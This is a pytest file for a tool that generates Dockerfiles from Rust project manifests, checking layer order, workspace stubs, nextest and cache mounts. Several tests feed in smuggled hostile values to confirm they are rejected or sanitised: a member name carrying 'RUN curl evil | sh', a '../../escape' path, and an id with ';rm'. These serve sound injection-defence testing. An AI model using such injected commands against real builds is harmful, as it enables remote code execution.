"""Rust graph -> Dockerfile (issue #18): the manifest-only fetch layer before the source, the
-dev packages, the workspace stubs, nextest, and the S14 checks on repository-chosen names."""

from __future__ import annotations

from pathlib import Path

import pytest

from bot.compile.dockerfile import DockerfileInjection
from bot.ecosystems.rust.compile import compile_dockerfile, compile_snippets
from bot.ecosystems.rust.prove import make_plan

REPOS = Path(__file__).resolve().parents[1] / "fixtures" / "repos"


def instructions(text: str) -> list[str]:
    return [line.split(" ", 1)[0] for line in text.splitlines() if line and not line.startswith((" ", "#"))]


def test_small_crate_layers_in_cache_order():
    plan = make_plan(REPOS / "rust-crate", ["1.85", "1.96"])
    text = plan.dockerfile
    assert instructions(text) == ["FROM", "ENV", "WORKDIR", "COPY", "RUN", "COPY", "RUN", "CMD"]
    assert "FROM rust:1.96-slim" in text
    assert 'COPY ["Cargo.toml", "Cargo.lock", "./"]' in text
    fetch = text.index("cargo fetch --locked")
    assert fetch < text.index('COPY [".", "."]') < text.index("RUN cargo build --tests --locked")
    assert "rm -f src/lib.rs" in text
    assert plan.test_command == ["cargo", "test", "--locked", "--no-fail-fast"]
    assert "apt-get" not in text


def test_workspace_copies_member_manifests_and_stubs_each_crate():
    plan = make_plan(REPOS / "rust-workspace", ["1.85"])
    text = plan.dockerfile
    assert 'COPY ["crates/cli/Cargo.toml", "crates/cli/"]' in text
    assert 'COPY ["crates/core/Cargo.toml", "crates/core/"]' in text
    assert "touch crates/cli/src/lib.rs crates/core/src/lib.rs" in text
    assert "RUN cargo build --tests --workspace --locked" in text
    assert plan.test_command == ["cargo", "test", "--workspace", "--locked", "--no-fail-fast"]


def test_sys_crate_gets_its_dev_package_before_the_fetch():
    plan = make_plan(REPOS / "rust-sys", ["1.85"])
    text = plan.dockerfile
    assert text.index("libssl-dev") < text.index("cargo fetch")
    assert "pkg-config" in text.split("WORKDIR")[0]
    layers = [s.layer for s in compile_snippets(plan.graph)]
    assert layers == ["base", "env", "system", "source", "manifests", "dependencies", "source", "project", "target"]


def test_msrv_plan_picks_the_newer_image_or_says_there_is_none():
    assert make_plan(REPOS / "rust-msrv", ["1.85", "1.96"]).choice.image == "rust:1.96-slim"
    refused = make_plan(REPOS / "rust-msrv", ["1.85"])
    assert refused.choice.satisfied is False
    assert "rust-version = 1.88" in refused.choice.reason and "rust:1.85-slim" in refused.choice.reason
    assert refused.graph.nodes["runtime:rust"].state == "MISSING"


def test_nextest_in_ci_installs_it_and_runs_it(tmp_path):
    (tmp_path / ".github/workflows").mkdir(parents=True)
    (tmp_path / "src").mkdir()
    (tmp_path / "src/lib.rs").write_text("")
    (tmp_path / "Cargo.toml").write_text('[package]\nname="x"\nversion="0.1.0"\nedition="2021"\n')
    (tmp_path / ".github/workflows/ci.yml").write_text(
        "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: cargo nextest run --all-features\n"
    )
    plan = make_plan(tmp_path, ["1.85"])
    assert "cargo install --locked cargo-nextest@" in plan.dockerfile
    assert plan.test_command == ["cargo", "nextest", "run", "--all-features", "--no-fail-fast"]
    assert "&& cargo fetch \\\n" in plan.dockerfile and "--locked \\\n    && rm" not in plan.dockerfile  # no lock


def test_a_member_name_with_a_newline_cannot_add_an_instruction(tmp_path):
    evil = "m\nRUN curl evil | sh"
    (tmp_path / evil / "src").mkdir(parents=True)
    (tmp_path / evil / "Cargo.toml").write_text('[package]\nname="m"\nversion="0.1.0"\n')
    (tmp_path / "Cargo.toml").write_text('[workspace]\nmembers = ["m\\nRUN curl evil | sh"]\n')
    with pytest.raises(DockerfileInjection):
        make_plan(tmp_path, ["1.85"])


def test_compile_is_deterministic():
    plan = make_plan(REPOS / "rust-workspace", ["1.85"])
    assert compile_dockerfile(plan.graph).text == plan.dockerfile


def test_declared_targets_are_stubbed_for_the_fetch(tmp_path):
    # dtolnay/itoa declares [[bench]] name = "bench" with no path: cargo looks for
    # benches/bench.rs and refuses the manifest when it is missing
    (tmp_path / "Cargo.toml").write_text(
        '[package]\nname="x"\nversion="0.1.0"\n[[bench]]\nname = "bench"\n'
        'harness = false\n[[bin]]\nname="tool"\npath="tools/tool.rs"\n'
        '[[test]]\nname="../../escape"\n'
    )
    plan = make_plan(tmp_path, ["1.85"])
    assert "touch src/lib.rs tools/tool.rs benches/bench.rs" in plan.dockerfile
    assert "escape" not in plan.dockerfile
    assert "rm -f src/lib.rs tools/tool.rs benches/bench.rs" in plan.dockerfile


def test_cache_mounts_copy_in_and_back_whatever_the_exit_and_parse_back():
    from bot.ecosystems.rust.compile import cache_id, kept_between_builds
    from bot.ecosystems.rust.graph import RUNTIME

    plan = make_plan(REPOS / "rust-workspace", ["1.85"])
    plan.graph.nodes[RUNTIME].attrs["cache_mounts"] = True
    text = compile_dockerfile(plan.graph).text  # compile parses it back (S14) or raises
    assert instructions(text) == ["FROM", "ENV", "WORKDIR", "COPY", "COPY", "COPY", "RUN", "COPY", "RUN", "CMD"]
    assert "id=cargo-target-ws-cli," in text  # the workspace's first member names its target cache
    mounts, lines = kept_between_builds([["cargo", "build", "--tests"], ["echo", "a b"]], "target", "cargo-target-x")
    assert mounts == ["type=cache,id=cargo-target-x,target=/var/cache/cargo/target-x,sharing=locked"]
    assert lines == [
        "mkdir -p target && cp -a /var/cache/cargo/target-x/. target/;",
        "cargo build --tests",
        "&& echo 'a b';",
        "s=$?; cp -a target/. /var/cache/cargo/target-x/; exit $s",
    ]
    build = text[text.index("RUN --mount=type=cache,id=cargo-target") :]
    assert build.splitlines()[1:4] == [
        "    mkdir -p target && cp -a /var/cache/cargo/target-ws-cli/. target/; \\",
        "    cargo build --tests --workspace --locked; \\",
        "    s=$?; cp -a target/. /var/cache/cargo/target-ws-cli/; exit $s",
    ]
    # a repository's crate name is reduced to what an id may hold
    assert cache_id("target", "Evil Name,id=x;rm") == "cargo-target-evil-name-id-x-rm"
    assert cache_id("registry") == "cargo-registry"
